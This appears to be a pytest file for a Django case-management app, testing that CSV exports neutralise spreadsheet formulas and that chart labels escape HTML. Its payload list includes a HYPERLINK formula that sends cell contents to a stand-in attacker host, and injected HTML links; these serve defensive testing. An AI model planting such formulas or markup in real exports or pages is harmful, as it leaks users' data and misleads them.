"""What leaves the app as data for other programs cannot act there: CSV cells
are not run as formulas, chart labels are not read as HTML."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.conf import settings

from cases import results
from cases.charts import web as charts
from cases.csvsafe import safe_cell, safe_row
from cases.models import Case
from tests.factories import make_case, make_choice, make_direction, make_session, make_vote

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_cell_becomes_text(text):
    assert safe_cell(text) == "'" + text


def test_ordinary_cells_and_numbers_are_left_alone():
    assert safe_row(["Logistieke monitor", "", 3, -2, 1.5, None, "a=b"]) == [
        "Logistieke monitor",
        "",
        3,
        -2,
        1.5,
        None,
        "a=b",
    ]


def test_every_csv_in_the_code_is_written_through_the_one_helper():
    """No export writes CSV past ``cases.csvsafe``."""
    offenders = []
    for path in (Path(settings.BASE_DIR) / "cases").rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text()):
            offenders.append(str(path))
    assert offenders == []


def test_the_audit_export_neutralises_a_formula_in_a_case_title(client_for, cora, utrecht):
    make_case(organisation=utrecht, title='=HYPERLINK("https://evil.example","klik")')
    response = client_for(cora).get("/audit/export.csv", {"kind": "case"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    titles = [row[5] for row in rows]
    assert any("HYPERLINK" in title for title in titles)
    assert not any(title.startswith(("=", "+", "-", "@")) for row in rows for title in row)


EVIL = '<a href="https://evil.example">klik</a> & <b>vet</b>'
ESCAPED = "&lt;a href=\"https://evil.example\"&gt;klik&lt;/a&gt; &amp; &lt;b&gt;vet&lt;/b&gt;"


def _texts(figure) -> str:
    """Every text of the figure plotly renders: names, labels, hover text."""
    return json.dumps(figure, ensure_ascii=False)


def test_stack_map_labels_and_hover_text_are_escaped(utrecht):
    case = make_case(organisation=utrecht, title=EVIL[:40])
    make_choice(case=case, title=EVIL)
    stack = results.stack_map(Case.objects.all())
    figure = charts.stack_map_figure(stack, "sourcing")
    rendered = _texts(figure)
    assert "<a " not in rendered and "<b>" not in rendered
    [trace] = figure["data"]
    assert trace["text"][0].endswith(": " + ESCAPED)
    assert "<br>" in trace["text"][0]  # plotly's own line break stays
    assert figure["layout"]["yaxis"]["ticktext"][0].startswith("&lt;a href=")


def test_session_charts_escape_direction_codes_and_titles(erik):
    direction = make_direction(code="R<b>1", title=EVIL)
    session = make_session(directions=[direction], state="closed")
    make_vote(session=session, direction=direction, executive=erik, points=2)
    numbers = results.session_results(session)
    for figure in (charts.distribution_figure(numbers), charts.ranking_figure(numbers)):
        rendered = _texts(figure)
        assert "<a " not in rendered and "R<b>1" not in rendered
        assert ESCAPED.replace("\"", "\\\"") in rendered and "R&lt;b&gt;1" in rendered
